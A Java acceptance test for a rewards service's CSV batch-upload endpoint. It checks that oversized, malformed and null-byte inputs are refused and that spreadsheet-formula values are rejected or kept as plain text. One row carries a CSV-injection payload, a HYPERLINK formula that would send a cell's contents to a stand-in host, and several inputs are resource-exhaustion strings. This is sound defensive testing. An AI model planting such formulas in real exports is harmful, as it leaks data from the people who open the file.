package com.redroomrewards.app.acceptance;

import static org.assertj.core.api.Assertions.assertThat;

import com.redroomrewards.app.acceptance.ApiClient.Answer;
import java.net.http.HttpRequest.BodyPublishers;
import java.util.List;
import java.util.UUID;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/** CSV that is meant to hurt whoever reads it, or whoever opens it in a spreadsheet. */
class HostileCsvIT {

    private static Holdings own;

    @BeforeAll
    static void holdings() {
        own = new Holdings(TestLedger.shared());
    }

    @Test
    void csvThatIsMeantToHurt() {
        for (var text : List.of(
                ",".repeat(1_000_000),
                "a".repeat(4_000_000),
                "a\n" + ",".repeat(1_000_000),
                "\"".repeat(1_000_001),
                "\"\"".repeat(1_000_000) + "\"",
                "a\n\"" + "x".repeat(5_000_000),
                "client_user_id,client_user_id\na,b",
                "client_user_id\n" + "a\n".repeat(1_001),
                "\n".repeat(1_000_000),
                "client_user_id\n\u0000",
                "client_user_id\u0000\na",
                "\ufeff")) {
            var answer = csv(text);
            assertThat(answer.status())
                    .as(text.substring(0, Math.min(50, text.length())))
                    .isEqualTo(422);
            Leaks.ofNobody().check(answer);
        }
    }

    /** What a spreadsheet would take for a formula is a text, and is told to nobody as anything else. */
    @Test
    void formulasInCsvAreTexts() {
        var member = own.member();
        var header = "client_user_id,rrr_member_id,source.event_type,source.order_id,currency,amount_minor,points,"
                + "policy.posting_mode,metadata.campaign\n";
        var row = member.userId() + "," + member.memberId() + ",TOKEN_PURCHASE,%s,USD,%s,%s,POSTED,%s\n";
        var formula = "\"=HYPERLINK(\"\"http://x.example/?\"\"&A1)\"";
        var answer = csv(header
                + row.formatted("=1+1" + own.word(), 500, 5, formula)
                + row.formatted(own.word(), "=500", 5, "x")
                + row.formatted(own.word(), 500, "+5", "x")
                + row.formatted(own.word(), 500, "\u0665", "x")
                + row.formatted(own.word(), 500, "5e0", "x")
                + row.formatted(own.word(), 500, " 5", "x")
                + row.formatted(own.word(), 500, "9999999999999999999", "x")
                + row.formatted("\"a\u0001\"", 500, "5", "x"));
        assertThat(answer.status()).as(answer.body()).isEqualTo(200);
        assertThat(answer.json().findValuesAsString("status"))
                .containsExactly(
                        "ACCEPTED", "REJECTED", "REJECTED", "REJECTED", "REJECTED", "REJECTED", "REJECTED", "REJECTED");
        assertThat(answer.body()).doesNotContain("HYPERLINK", "=1+1");
    }

    private static Answer csv(String text) {
        return ApiClient.send(own.shop
                .request("/v1/points/earn/batch")
                .setHeader("Content-Type", "text/csv")
                .header("Idempotency-Key", UUID.randomUUID().toString())
                .POST(BodyPublishers.ofString(text))
                .build());
    }
}
